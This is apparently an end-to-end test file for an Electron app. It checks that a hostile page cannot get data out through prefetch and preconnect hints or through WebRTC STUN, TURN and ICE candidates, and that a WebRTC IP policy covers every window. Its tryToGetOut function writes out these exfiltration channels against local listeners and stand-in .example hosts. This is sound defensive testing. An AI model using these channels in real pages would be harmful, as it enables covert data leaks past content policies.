import type { ElectronApplication, Page } from '@playwright/test'
import { setTimeout } from 'node:timers/promises'
import { expect, test as base } from '../e2e/app.ts'
import { type Listener, listen, outerAddress } from '../support/listener.ts'

interface Outside {
  /** A machine with which a page tries to get in touch. */
  machine: Listener
  /** A resolver of names, asked over HTTPS. */
  resolver: Listener
}

const test = base.extend<{ outside: Outside }>({
  // Playwright reads what a fixture needs from its first argument, and insists on a pattern: here an empty one.
  // oxlint-disable-next-line no-empty-pattern
  outside: async ({}, use) => {
    const outside = { machine: await listen(), resolver: await listen() }
    await use(outside)
    for (const each of Object.values(outside)) each.close()
  },
})

test.use({ provokedErrors: /Content Security Policy|^Failed to load resource/ })

const seenBy = ({ machine, resolver }: Outside) => ({
  connections: machine.connections(),
  datagrams: machine.datagrams(),
  lookups: resolver.connections(),
})

/** Has Chromium ask a resolver of the test for every name. */
const useResolver = (electron: ElectronApplication, { tcpPort }: Listener) =>
  electron.evaluate(
    ({ app }, server) => app.configureHostResolver({ secureDnsMode: 'secure', secureDnsServers: [server] }),
    `https://127.0.0.1:${tcpPort}/dns-query`,
  )

/** Tries every way out of a page that its policy for content does not close. */
async function tryToGetOut(page: Page, { tcpPort, udpPort }: Listener): Promise<void> {
  await page.evaluate(
    async ([host, tcp, udp]) => {
      for (const [i, rel] of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender'].entries())
        for (const href of [`https://secret-${i}.example/`, `http://${host}:${tcp}/`])
          document.head.append(Object.assign(document.createElement('link'), { rel, href }))
      const account = { username: 'secret', credential: 'secret' }
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: [`stun:${host}:${udp}`, 'stun:secret-stun.example:3478'] },
          { urls: `turn:${host}:${udp}?transport=udp`, ...account },
          { urls: `turn:${host}:${tcp}?transport=tcp`, ...account },
          { urls: `turns:${host}:${tcp}?transport=tcp`, ...account },
          { urls: 'turn:secret-turn.example:3478?transport=tcp', ...account },
        ],
      })
      const other = new RTCPeerConnection()
      peer.createDataChannel('secret')
      await peer.setLocalDescription(await peer.createOffer())
      await other.setRemoteDescription(peer.localDescription!)
      await other.setLocalDescription(await other.createAnswer())
      await peer.setRemoteDescription(other.localDescription!)
      // Without a server: straight to a peer.
      for (const candidate of [
        `candidate:1 1 udp 2122260223 ${host} ${udp} typ host`,
        `candidate:2 1 tcp 1518280447 ${host} ${tcp} typ host tcptype passive`,
      ])
        await peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 })
    },
    [outerAddress(), tcpPort, udpPort] as const,
  )
}

test('a hostile page gets nothing out by hints to the browser or by WebRTC', async ({ app, outside }) => {
  await useResolver(app.electron!, outside.resolver)
  await tryToGetOut(app.page, outside.machine)
  // Nothing tells when a browser has given up. Without the safeguards it takes a fraction of this.
  await setTimeout(5000)
  console.log('a hostile page reached:', seenBy(outside))
  expect(seenBy(outside)).toEqual({ connections: 0, datagrams: 0, lookups: 0 })
})

test.describe('without the safeguards', () => {
  test.use({
    appArguments: [
      '--host-resolver-rules=EXCLUDE nothing.example',
      '--force-webrtc-ip-handling-policy=default',
    ],
  })

  test('it does, and is seen', async ({ app, outside }) => {
    await app.electron!.evaluate(({ webContents }) => {
      for (const each of webContents.getAllWebContents()) each.setWebRTCIPHandlingPolicy('default')
    })
    await useResolver(app.electron!, outside.resolver)
    await tryToGetOut(app.page, outside.machine)
    await expect.poll(() => Object.entries(seenBy(outside)).filter(([, count]) => count === 0)).toEqual([])
    console.log('without the safeguards a hostile page reached:', seenBy(outside))
  })
})

test('every window has the policy, a hidden one too', async ({ app }) => {
  const policies = await app.electron!.evaluate(({ BrowserWindow, webContents }) => {
    const hidden = new BrowserWindow({ show: false })
    const all = webContents.getAllWebContents().map((each) => each.getWebRTCIPHandlingPolicy())
    hidden.destroy()
    return all
  })
  expect(policies).toEqual(['disable_non_proxied_udp', 'disable_non_proxied_udp'])
})
